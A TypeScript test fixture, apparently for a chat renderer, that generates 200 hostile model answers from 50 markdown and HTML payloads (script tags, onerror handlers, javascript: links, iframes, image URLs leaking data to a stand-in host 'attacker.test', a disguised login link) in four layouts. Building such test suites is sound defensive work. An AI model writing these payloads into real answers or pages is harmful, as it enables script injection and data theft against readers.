/** What a model might write to harm anyone who reads it: 50 texts in four places each. */

const EVIL = 'https://attacker.test'
const RUN = 'window.hacked=1'

const IMAGES = [
  `![a secret](${EVIL}/p.png?d=canary)`,
  `![](//attacker.test/p.png)`,
  `![x][pic]\n\n[pic]: ${EVIL}/p.png`,
  `[![x](${EVIL}/p.png)](${EVIL}/go)`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `![x](<${EVIL}/a b.png> "t\\" onerror=${RUN}")`,
  `<picture><source srcset="${EVIL}/s.png"><img alt=x></picture>`,
]

const TAGS = [
  `<script>${RUN}</script>`,
  `<script src=${EVIL}/x.js></script>`,
  `<ScRiPt >${RUN}//`,
  `<img src=x onerror="${RUN}">`,
  `<img/src=${EVIL}/i.png/onerror=${RUN}>`,
  `<svg onload=${RUN}><animate onbegin=${RUN} attributeName=x></svg>`,
  `<svg><use href="${EVIL}/s.svg#x"/></svg>`,
  `<iframe src="${EVIL}"></iframe>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<object data="${EVIL}/o.swf"></object><embed src="${EVIL}/e">`,
  `<link rel=stylesheet href=${EVIL}/s.css>`,
  `<style>@import url(${EVIL}/s.css);*{background:url(${EVIL}/b.png)}</style>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<base href="${EVIL}/">`,
  `<form action="${EVIL}"><input name=q value=canary><button>Go</button></form>`,
  `<input autofocus onfocus="${RUN}">`,
  `<video src="${EVIL}/v.mp4" autoplay onerror="${RUN}"></video>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<div style="position:fixed;inset:0;background:url(${EVIL}/b.png)">x</div>`,
  `<a href="javascript:${RUN}" onclick="${RUN}">x</a>`,
  `<a href="${EVIL}" ping="${EVIL}/ping">x</a>`,
  `<math><maction xlink:href="javascript:${RUN}">x</maction></math>`,
  `<template><script>${RUN}</script></template><noscript><img src=x onerror=${RUN}></noscript>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?php echo '<script>${RUN}</script>' ?>`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62;`,
]

const LINKS = [
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt&colon;${RUN})`,
  `[x](java\tscript:${RUN})`,
  `[x](&#106;avascript:${RUN})`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `[x](vbscript:msgbox)`,
  `[x](blob:${EVIL}/1) [y](file:///etc/passwd)`,
  `<javascript:${RUN}>`,
  `[x][j]\n\n[j]: javascript:${RUN}`,
  `[Waymark](https://waymark.example@attacker.test/login)`,
  `[x](${EVIL}/"onmouseover="${RUN})`,
  `[reset your password](/settings?delete=1)`,
]

const SHAPES = [
  '```html\n<img src=x onerror=window.hacked=1>\n```',
  '`<img src=x onerror=window.hacked=1>`',
  `| a | b |\n|---|---|\n| <img src=x onerror=${RUN}> | ![](${EVIL}/t.png) |`,
  `**bold <b onclick=${RUN}>** _em <i onpointerenter=${RUN}>_`,
]

const PAYLOADS = [...IMAGES, ...TAGS, ...LINKS, ...SHAPES]

const PLACES: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `- **Strength:** ${payload}\n- Another`,
  (payload) => `### 1. ${payload}\n2. ${payload}`,
  (payload) => `> Quoted ${payload}\n\nRead [L1] \u202Eand\u200B${payload}\u{E0041}`,
]

/** Each ends with its own word, so that one can wait for the whole of it. */
export const hostileAnswers: readonly string[] = PAYLOADS.flatMap((payload) =>
  PLACES.map((place) => place(payload)),
).map((text, at) => `${text}\n\nThe end of case ${at + 1}.`)
